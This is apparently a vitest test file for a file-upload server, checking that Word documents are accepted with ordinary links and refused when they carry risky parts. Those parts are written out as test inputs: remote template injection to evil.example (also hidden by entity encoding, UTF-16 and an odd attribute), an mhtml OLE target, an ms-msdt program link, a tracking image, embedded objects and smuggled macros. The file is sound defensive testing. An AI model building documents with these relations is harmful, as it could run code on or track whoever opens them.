import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFiles } from '#config/file-config.ts';
import { createFileOffice, type FileOffice } from '#test/support/test-office.ts';
import { makeDocx } from '../corpus/documents.ts';
import { createTestApp, type TestApp } from '../support/test-app.ts';
import { upload } from '../support/test-upload.ts';

/* Files by somebody who knows the protocol well, and has two servers of ours before them. */
const home = fs.mkdtempSync(path.join(os.tmpdir(), 'tervik-attack-'));
/** One storage; the folder in which uploads grow is each server's own. */
const settings = (server: string) => ({
  ...readFiles({ FILES_DIR: path.join(home, 'files') }, path.join(home, server)),
});
let office: FileOffice;
let second: TestApp;

beforeAll(async () => {
  office = await createFileOffice({ files: settings('first') });
  await office.app.app.start(0, '127.0.0.1');
  second = await createTestApp({ database: office.app.database, config: { files: settings('second') } });
  await second.app.start(0, '127.0.0.1');
});
afterAll(async () => {
  await second.app.stop();
  await second.world.close();
  await office.app.close();
  fs.rmSync(home, { recursive: true, force: true });
});

describe('a Word document', () => {
  const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const relations = (inner: string) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
  const outside = (type: string, target: string, more = 'TargetMode="External"') =>
    `<Relationship Id="rId1" Type="${OFFICE}/${type}" Target="${target}" ${more}/>`;
  const send = async (
    parts: Record<string, string | Buffer>,
    claimed?: number,
  ): Promise<string | undefined> => {
    const eContact = await office.open();
    const { status, body } = await upload(
      office.app,
      office.mari,
      eContact,
      makeDocx(parts, undefined, claimed),
      {
        name: 'a.docx',
      },
    );
    return status === 200 ? body.file?.contentType.split('.').at(-1) : body.key;
  };
  const linked = (inner: string) => send({ 'word/_rels/document.xml.rels': relations(inner) });

  it('with links that wait for a click is taken', async () => {
    expect(await linked(outside('hyperlink', 'https://example.ee/?a=1&amp;b=2'))).toBe('document');
    expect(await linked(outside('hyperlink', 'mailto:mari@example.ee'))).toBe('document');
    expect(await linked(`<Relationship Id="a" Type="${OFFICE}/styles" Target="styles.xml"/>`)).toBe(
      'document',
    );
  });

  it.each([
    [
      'a template',
      () => ({
        'word/_rels/settings.xml.rels': relations(outside('attachedTemplate', 'https://evil.example/a.dotm')),
      }),
    ],
    [
      'a template, said in other letters',
      () => ({
        'word/_rels/settings.xml.rels': relations(
          outside('attachedTemplate', 'https://evil.example/a.dotm', 'TargetMode="&#69;xternal"'),
        ),
      }),
    ],
    [
      'a template, in another encoding',
      () => ({
        'word/_rels/settings.xml.rels': Buffer.from(
          `\uFEFF${relations(outside('attachedTemplate', 'https://evil.example/a.dotm'))}`,
          'utf16le',
        ),
      }),
    ],
    [
      'a template behind a bracket',
      () => ({
        'word/_rels/settings.xml.rels': relations(
          `<Relationship Id=">" TargetMode='External' Type='${OFFICE}/attachedTemplate' Target='https://evil.example'/>`,
        ),
      }),
    ],
    [
      'an object',
      () => ({
        'word/_rels/document.xml.rels': relations(
          outside('oleObject', 'mhtml:https://evil.example!x-usc:https://evil.example'),
        ),
      }),
    ],
    [
      'a picture that tells who opened it',
      () => ({ 'word/_rels/document.xml.rels': relations(outside('image', 'https://evil.example/who.png')) }),
    ],
    [
      'a link to a program',
      () => ({ 'word/_rels/document.xml.rels': relations(outside('hyperlink', 'ms-msdt:/id x')) }),
    ],
    [
      'a page of the web in it',
      () => ({
        'word/_rels/document.xml.rels': relations(
          `<Relationship Id="a" Type="${OFFICE}/aFChunk" Target="a.mht"/>`,
        ),
      }),
    ],
    ['a packed object in it', () => ({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['macros behind another slash', () => ({ 'word\\vbaProject.bin': 'x' })],
    ['a second list of its types', () => ({ '[content_types].xml': 'x' })],
  ] as const)('that brings %s is refused', async (_, parts) => {
    expect(await send(parts())).toBe('FILE_TYPE_NOT_ALLOWED');
  });

  it('that is larger inside than it says is refused', async () => {
    expect(await send({ 'word/media/a.png': Buffer.alloc(30 * 1024 * 1024) }, 500)).toBe(
      'FILE_TYPE_NOT_ALLOWED',
    );
  });
});
